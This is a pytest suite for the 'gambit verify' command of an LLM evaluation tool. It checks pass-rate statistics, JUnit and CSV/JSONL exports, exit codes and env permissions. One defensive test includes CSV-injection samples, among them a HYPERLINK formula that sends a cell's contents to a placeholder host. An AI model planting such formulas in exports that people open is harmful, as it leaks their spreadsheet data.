"""`gambit verify` through the console script against the fake model server on 127.0.0.1:
metrics in the summary, thresholds as exit codes, JUnit read back by a JUnit parser, exports."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from junitparser import Error, Failure, JUnitXml

from gambit.core._statistics import wilson
from tests.support.fake_model_server import FakeModelServer, FunctionCall, Reply

GAMBIT = str(Path(sys.executable).parent / "gambit")
MODEL = "openrouter/test-model"


def write(root: Path, rel: str, text: str) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    write(
        tmp_path,
        "bot/PROMPT.md",
        f"""
        +++
        label = "Bot"
        startMode = "user"
        [modelParams]
        model = "{MODEL}"
        [[scenarios]]
        path = "../persona/PROMPT.md"
        label = "Asks once"
        [[graders]]
        path = "../grader/PROMPT.md"
        label = "Helpful"
        +++
        You help customers.
        """,
    )
    write(
        tmp_path,
        "persona/PROMPT.md",
        f"""
        +++
        [modelParams]
        model = "{MODEL}"
        +++
        You are a customer with one question.
        """,
    )
    write(
        tmp_path,
        "grader/PROMPT.md",
        f"""
        +++
        contextSchema = "gambit://schemas/graders/contexts/conversation.zod.ts"
        responseSchema = "gambit://schemas/graders/grader_output.zod.ts"
        [modelParams]
        model = "{MODEL}"
        +++
        Grade the conversation.

        ![](gambit://snippets/respond.md)
        """,
    )
    return tmp_path


def respond(score: int, reason: str) -> Reply:
    return Reply(
        function_calls=[
            FunctionCall("gambit_respond", {"payload": {"score": score, "reason": reason}})
        ]
    )


def conversation() -> list[Reply]:
    return [Reply(text="Where is my order?"), Reply(text="It has shipped."), Reply(text="")]


def verify(server: FakeModelServer, *args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, **server.env(), "COLUMNS": "200"}
    env.pop("GAMBIT_CHAT_FALLBACK", None)
    return subprocess.run(
        [GAMBIT, "verify", "bot/PROMPT.md", "--quiet", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        timeout=120,
    )


def test_metrics_junit_and_exports(fake_server: FakeModelServer, workspace: Path):
    # With one slot the order is fixed: both runs (queued first), then the grades in run order.
    fake_server.queue(
        *conversation(),
        *conversation(),
        respond(2, "clear"),
        respond(2, "clear"),
        respond(-2, "curt"),
        respond(1, "fine"),
    )
    result = verify(
        fake_server,
        "--runs", "2", "--repeats", "2", "--concurrency", "1",
        "--junit", "out/junit.xml", "--json", "out/report.json",
        "--grades-csv", "out/grades.csv", "--grades-jsonl", "out/grades.jsonl",
        "--sessions", "out/sessions",
        cwd=workspace,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "2 scenario runs (0 failed), 4 grades" in result.stdout
    row = next(line for line in result.stdout.splitlines() if "Helpful" in line)
    assert "4/4" in row and "75%" in row and "+0.75" in row  # 3 of 4 pass; mean (2+2-2+1)/4
    assert "50% / 50%" in row  # run 1 repeats agree exactly; run 2's (-2, 1) differ by 3

    suites = JUnitXml.fromfile(str(workspace / "out/junit.xml"))
    (suite,) = list(suites)
    assert suite.name == "Helpful" and suite.tests == 2 and suite.failures == 1
    cases = list(suite)
    assert [c.classname for c in cases] == ["Asks once", "Asks once"]
    assert cases[0].result == []
    (failure,) = cases[1].result
    assert isinstance(failure, Failure) and "score -2 is below the threshold +0" in failure.message
    # the suite carries the pass rate with its Wilson interval over the 2 runs, each counting
    # once with its repeats' share of passes (1 and 1/2), not over the 4 grades
    # (docs/calibration.md): re-grading the same conversations is not more evidence
    properties = {p.name: p.value for p in suite.properties()}
    interval = wilson(1.5, 2)
    assert properties["passRate"] == "0.7500" and properties["threshold"] == "0"
    assert properties["passRateLow"] == f"{interval.low:.4f}"
    assert properties["passRateHigh"] == f"{interval.high:.4f}"
    assert properties["passRateRuns"] == "2"
    assert properties["passRateInterval"] == "wilson 0.95 over scenario runs"
    assert (properties["graded"], properties["passed"]) == ("4", "3")
    assert f"75% [{interval.low:.0%}-{interval.high:.0%}] n=2" in row
    assert "interval] over the n runs graded, not over grades" in result.stdout
    # the outliers count a low score as a failure, as the pass rate does
    assert "1 of 2 not passed (1 below the threshold)" in result.stdout

    report = json.loads((workspace / "out/report.json").read_text())
    summary = report["summaries"][str((workspace / "grader/PROMPT.md").resolve())]
    assert summary["passRate"] == 0.75 and summary["consistency"]["pairs"] == 2
    assert summary["verdicts"]["failed"] == 1 and summary["verdicts"]["passed"] == 3
    assert summary["passRateInterval"]["low"] == round(interval.low, 4)
    assert summary["passRateRuns"] == 2
    assert sum(b["count"] for b in summary["histogram"]) == 4
    grades = report["grades"]
    assert [g["reason"] for g in grades] == ["clear", "clear", "curt", "fine"]
    rows = list(csv.DictReader((workspace / "out/grades.csv").open()))
    assert [r["score"] for r in rows] == ["2", "2", "-2", "1"]
    assert {r["scenario"] for r in rows} == {"Asks once"} and rows[0]["graderHash"]
    assert len((workspace / "out/grades.jsonl").read_text().splitlines()) == 4
    assert len(list((workspace / "out/sessions").glob("*.json"))) == 2


# A spreadsheet runs a cell starting with =, +, -, @, a tab or a carriage return as a formula
# (OWASP, "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection).
HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "-1+2 looks like a sum", "'=quoted"]


def test_the_csv_export_neutralises_formulas_and_calibrate_reads_them_back(
    fake_server: FakeModelServer, workspace: Path
):
    # Before: a reason starting with = was written raw and ran when the CSV was opened
    # (docs/calibration.md, "Exports in spreadsheets").
    fake_server.queue(
        *conversation(), respond(-2, HOSTILE[0]), respond(-2, HOSTILE[1]), respond(1, HOSTILE[2])
    )
    result = verify(
        fake_server, "--repeats", "3", "--concurrency", "1",
        "--grades-csv", "out/grades.csv", "--grades-jsonl", "out/grades.jsonl",
        cwd=workspace,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader((workspace / "out/grades.csv").open(encoding="utf-8")))
    assert [r["reason"] for r in rows] == ["'" + reason for reason in HOSTILE]
    assert [r["score"] for r in rows] == ["-2", "-2", "1"]  # numbers stay numbers
    jsonl = (workspace / "out/grades.jsonl").read_text().splitlines()
    assert [json.loads(line)["reason"] for line in jsonl] == HOSTILE  # JSON lines as they were
    # gambit calibrate (and verify --ratings) read the export as it was before
    from gambit.cli._calibrate import load, read_files

    back = [row for _, row in read_files([workspace / "out/grades.csv"])]
    assert [(r["reason"], r["score"]) for r in back] == [
        (HOSTILE[0], "-2"), (HOSTILE[1], "-2"), (HOSTILE[2], "1")
    ]  # fmt: skip
    (version,) = load([workspace / "out/grades.csv"]).versions.values()
    assert list(version.scores.values()) == [[-2.0, -2.0, 1.0]]


def test_thresholds_exit_1_and_say_which(fake_server: FakeModelServer, workspace: Path):
    fake_server.queue(*conversation(), respond(-1, "vague"))
    result = verify(
        fake_server, "--min-pass-rate", "80%", "--fail-under", "0", "--concurrency", "1",
        cwd=workspace,
    )  # fmt: skip
    assert result.returncode == 1
    assert "Helpful: pass rate 0% is below --min-pass-rate 80%" in result.stderr
    assert "Helpful: mean score -1.00 is below --fail-under +0" in result.stderr


def test_a_failed_run_is_an_error_case_and_exit_1(fake_server: FakeModelServer, workspace: Path):
    fake_server.queue(
        Reply(text="Where is my order?"),
        Reply(status=400, error={"message": "bad request", "type": "invalid_request_error"}),
    )
    result = verify(fake_server, "--junit", "junit.xml", cwd=workspace)
    assert result.returncode == 1
    assert "1 of 1 scenario runs failed" in result.stderr
    # the grade of a failed run never happened: not counted as a grade (the table: 0/1)
    assert "1 scenario runs (1 failed), 0 grades (1 not graded: their runs failed)," in (
        result.stdout
    )
    (case,) = list(next(iter(JUnitXml.fromfile(str(workspace / "junit.xml")))))
    (error,) = case.result
    assert isinstance(error, Error) and "bad request" in error.message


def test_a_deck_without_graders_is_named(fake_server: FakeModelServer, workspace: Path):
    (workspace / "bot/PROMPT.md").write_text(
        (workspace / "bot/PROMPT.md").read_text().replace("[[graders]]", "[[ungraded]]")
    )
    result = verify(fake_server, cwd=workspace)
    assert result.returncode == 1
    assert "no grader; declare [[graders]] or pass --grader" in result.stderr


def test_a_threshold_off_the_scale_is_refused(fake_server: FakeModelServer, workspace: Path):
    # 9 on the -3..+3 scale failed every grade without a word
    result = verify(fake_server, "--threshold", "9", cwd=workspace)
    assert result.returncode == 2
    assert "Invalid value for '--threshold': 9.0 is not in the range -3<=x<=3" in result.stderr
    assert fake_server.requests == []


def test_min_pass_rate_must_be_a_rate(fake_server: FakeModelServer, workspace: Path):
    result = verify(fake_server, "--min-pass-rate", "lots", cwd=workspace)
    assert result.returncode == 2 and "is not a rate" in result.stderr


def test_a_grader_that_raises_is_named_with_its_error(
    fake_server: FakeModelServer, workspace: Path
):
    write(
        workspace,
        "boom/deck.py",
        """
        import gambit
        def run(ctx):
            raise RuntimeError("rubric file missing")
        deck = gambit.define_deck(
            run=run,
            context_schema="gambit://schemas/graders/contexts/conversation.zod.ts",
            response_schema="gambit://schemas/graders/grader_output.zod.ts",
        )
        """,
    )
    fake_server.queue(*conversation())
    result = verify(fake_server, "--grader", "boom/deck.py", cwd=workspace)
    assert result.returncode == 1
    assert "deck: 1 grades failed" in result.stderr
    (line,) = [line for line in result.stdout.splitlines() if line.startswith("failed grade")]
    boom = (workspace / "boom/deck.py").resolve()
    assert line.endswith(f": DeckCodeError: {boom} raised RuntimeError: rubric file missing")


def test_exec_sees_its_granted_environment_in_a_batch(
    fake_server: FakeModelServer, workspace: Path, monkeypatch: pytest.MonkeyPatch
):
    # `gambit verify` (and `scenario --runs`) gave the engine no host environment, so an exec
    # tool in a batch saw none of what its deck's [permissions] env grants, unlike `gambit run`.
    python = os.path.realpath(sys.executable)
    bot = (workspace / "bot/PROMPT.md").read_text()
    bot = bot.replace(
        "+++\nYou help",
        f'[permissions]\nenv = ["GAMBIT_BATCH_PROBE"]\nrun = {{ paths = ["{python}"] }}\n'
        "+++\nYou help",
    )
    (workspace / "bot/PROMPT.md").write_text(bot)
    code = "import os; print(os.environ.get('GAMBIT_BATCH_PROBE'), os.environ.get('HIDDEN_X'))"
    fake_server.queue(
        Reply(text="Where is my order?"),
        Reply(function_calls=[FunctionCall("exec", {"command": python, "args": ["-c", code]})]),
        Reply(text="It has shipped."),
        Reply(text=""),
        respond(1, "fine"),
    )
    monkeypatch.setenv("GAMBIT_BATCH_PROBE", "granted-value")
    monkeypatch.setenv("HIDDEN_X", "not-granted")
    result = verify(fake_server, "--runs", "1", "--concurrency", "1", cwd=workspace)
    assert result.returncode == 0, result.stderr
    outputs = [
        item["output"]
        for request in fake_server.requests
        if isinstance(request.body, dict)
        for item in request.body.get("input") or []
        if isinstance(item, dict) and item.get("type") == "function_call_output"
    ]
    assert outputs and all("granted-value None" in str(o) for o in outputs), outputs
